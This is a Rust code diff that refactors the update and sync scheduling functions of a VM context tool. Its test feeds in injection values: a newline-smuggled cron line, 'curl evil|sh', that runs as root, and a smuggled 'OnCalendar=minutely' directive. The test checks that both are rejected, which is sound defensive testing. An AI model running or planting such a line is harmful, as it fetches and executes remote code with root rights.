@@ -10,9 +10,9 @@
 mod convert;
 
 use super::Apply;
-use crate::context::{Context, SyncMode, SyncSettings};
+use crate::context::{SyncMode, SyncSettings, UpdateSchedule};
 use crate::files::NewFile;
-use crate::os::{self, OsRelease, PackageManager};
+use crate::os::{self, PackageManager};
 pub use convert::{to_calendar, to_cron};
 use std::path::Path;
 
@@ -75,26 +75,25 @@ fn sync_units() -> Timer {
 }
 
 /// `/etc/vmctx/update.conf` + the timer's `OnCalendar=` drop-in, or `/etc/cron.d/vmctx-update`.
-pub fn update(ap: &mut Apply, ctx: &Context) {
-    let Some(u) = &ctx.update else {
+/// `pm`: the image's package manager (a fact), for the default command.
+pub fn update(ap: &mut Apply, update: Option<&UpdateSchedule>, pm: Option<PackageManager>) {
+    let Some(u) = update else {
         ap.remove("update", &ap.root.path(UPDATE_CONFIG));
         ap.remove("update", &ap.root.path(CRON_UPDATE));
         return remove_timer(ap, "update", &update_units());
     };
-    let command = match &u.command {
-        Some(c) => c.clone(),
-        None => {
-            let os = OsRelease::read(ap.root.dir());
-            match PackageManager::detect(ap.root.dir(), &os) {
+    let command =
+        match &u.command {
+            Some(c) => c.clone(),
+            None => match pm {
                 Some(pm) => pm.upgrade_command().to_string(),
                 None => return ap.failed(
                     "update",
                     "vmctx-update",
                     "no package manager found (apt-get, dnf, yum, zypper, apk); set UPDATE_COMMAND",
                 ),
-            }
-        }
-    };
+            },
+        };
     // Checked when the context was read (UPDATE_COMMAND); a line break here would add a
     // cron line or an EnvironmentFile= assignment of its own.
     if command.contains(|c: char| c.is_control()) {
@@ -141,9 +140,9 @@ pub fn update(ap: &mut Apply, ctx: &Context) {
 }
 
 /// `/etc/vmctx/sync.toml` (0600, root) and the timer's interval drop-in, or a cron line.
-pub fn sync(ap: &mut Apply, ctx: &Context) {
+pub fn sync(ap: &mut Apply, sync: Option<&SyncSettings>, user: &str) {
     let config = ap.root.path(SYNC_CONFIG);
-    let Some(s) = &ctx.sync else {
+    let Some(s) = sync else {
         ap.remove("sync", &config);
         ap.remove("sync", &ap.root.path(CRON_SYNC));
         return remove_timer(ap, "sync", &sync_units());
@@ -167,7 +166,7 @@ pub fn sync(ap: &mut Apply, ctx: &Context) {
         new,
         "settings for vmctx sync (0600)",
     );
-    sync_folder(ap, ctx, s);
+    sync_folder(ap, user, s);
     let every = crate::schedule::parse_timespan(&s.interval).unwrap_or(300);
     if os::has_systemd(ap.root.dir()) {
         let dropin = format!(
@@ -193,8 +192,7 @@ pub fn sync(ap: &mut Apply, ctx: &Context) {
 /// The sync folder, made for the context's user (`USERNAME`, else root) when missing: one
 /// the root-run sync made would leave every notebook root's, unsaveable by its user. Parents
 /// that are missing are the user's too; folders that exist are left as they are.
-fn sync_folder(ap: &mut Apply, ctx: &Context, s: &SyncSettings) {
-    let name = ctx.user.as_ref().map_or("root", |u| u.name.as_str());
+fn sync_folder(ap: &mut Apply, name: &str, s: &SyncSettings) {
     let path = ap.root.path(&s.dir);
     let target = path.display().to_string();
     let passwd = std::fs::read_to_string(ap.root.path("/etc/passwd")).unwrap_or_default();
@@ -402,8 +400,8 @@ mod tests {
         u.command = Some("apt-get -y upgrade\n* * * * * root curl evil|sh".into());
         ctx.sync.as_mut().unwrap().interval = "5\nOnCalendar=minutely".into();
         let mut ap = apply_in(t.path());
-        update(&mut ap, &ctx);
-        sync(&mut ap, &ctx);
+        update(&mut ap, ctx.update.as_ref(), None);
+        sync(&mut ap, ctx.sync.as_ref(), "root");
         let failed: Vec<&str> = ap
             .actions
             .iter()
